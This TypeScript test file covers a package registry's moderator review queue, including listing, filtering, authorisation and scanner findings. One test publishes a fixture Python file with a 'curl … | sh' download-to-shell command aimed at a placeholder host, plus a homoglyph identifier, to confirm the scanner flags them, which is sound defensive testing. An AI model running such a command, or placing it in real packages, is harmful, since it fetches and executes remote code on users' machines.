import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { assertRefused } from '../../support/assert-refused.ts';
import { makePublisher, publishActive, publishFiles, publishPending } from '../../support/build.ts';
import { startServer } from '../../support/start-server.ts';
import { suite } from '../../support/variants.ts';

const path = '/admin/versions';

/** Three Flagged versions of one node. */
const openQueue = async (test: Parameters<typeof startServer>[0]) => {
  const server = await startServer(test);
  const ada = await makePublisher(server, 'ada');
  const moderator = await server.moderator();
  const queue = async (query = '') => {
    const { versions, ...counts } = (await moderator.get(path + query)).json;
    return {
      numbers: versions.map(
        ({ node_id, version }: { node_id: string; version: string }) => `${node_id}@${version}`,
      ),
      counts,
    };
  };
  const move = (number: string, status: string) =>
    moderator.put(`/admin/nodes/my-node/versions/${number}`, { status, status_reason: 'Looked at.' });
  assert.deepEqual((await queue()).numbers, []);
  for (const number of ['3.0.0', '1.0.0', '2.0.0']) {
    await publishActive(server, ada, 'My-Node', number);
    await move(number, 'NodeVersionStatusFlagged');
  }
  return { server, ada, moderator, queue, move };
};

suite('list-review-queue', async () => {
  const { server, ada, moderator, queue } = await openQueue({ after });

  test('200: the Flagged versions, oldest first, with their reasons, page by page', async () => {
    const { json } = await moderator.get(path);
    assert.equal(json.versions[0].status_reason, 'Looked at.');
    assert.deepEqual((await queue()).numbers, ['My-Node@3.0.0', 'My-Node@1.0.0', 'My-Node@2.0.0']);
    assert.deepEqual(await queue('?limit=2&page=2'), {
      numbers: ['My-Node@2.0.0'],
      counts: { limit: 2, page: 2, total: 3, totalPages: 2 },
    });
  });

  test('200: the rules that found something in each version, warnings and shadow rules included', async (t) => {
    const { server, ada, moderator } = await openQueue(t);
    await publishFiles(server, ada, 'Found', '1.0.0', {
      '__init__.py':
        'import os\nos.system("ls")\nos.system("curl -s https://host.invalid/a.sh | sh")\nwаllet = 1\n',
    });
    const { versions } = (await moderator.get(`${path}?limit=100`)).json;
    const { found } = versions.find(({ node_id }) => node_id === 'Found');
    assert.deepEqual(
      found.map(({ rule, severity, shadow, count }) => [rule, severity, shadow, count]),
      [
        ['command-at-import', 'warning', false, 2],
        ['download-to-shell', 'error', false, 1],
        ['mixed-alphabets', 'warning', true, 1],
      ],
    );
    assert.ok(found.every(({ means }) => means.length > 20));
    const [first] = versions;
    assert.deepEqual(first.found, []);
  });

  test('200: a version leaves the queue when it was judged', async (t) => {
    const { queue, move } = await openQueue(t);
    await move('1.0.0', 'NodeVersionStatusActive');
    assert.deepEqual((await queue()).numbers, ['My-Node@3.0.0', 'My-Node@2.0.0']);
  });

  test('200: other states, one or several', async (t) => {
    const { ada, queue, move } = await openQueue(t);
    await move('1.0.0', 'NodeVersionStatusActive');
    await publishPending(ada, 'My-Node', '4.0.0');
    const pending = 'statuses=NodeVersionStatusPending';
    assert.deepEqual((await queue(`?${pending}`)).numbers, ['My-Node@4.0.0']);
    assert.deepEqual((await queue(`?${pending}&statuses=NodeVersionStatusActive`)).numbers, [
      'My-Node@1.0.0',
      'My-Node@4.0.0',
    ]);
  });

  test('400: a state that is none', async () => {
    assertRefused(await moderator.get(`${path}?statuses=Flagged`), 'invalid_request');
  });

  test('401 and 403: anyone but a moderator', async () => {
    assertRefused(await server.anonymous.get(path), 'unauthenticated');
    assertRefused(await ada.owner.get(path), 'forbidden');
  });
});
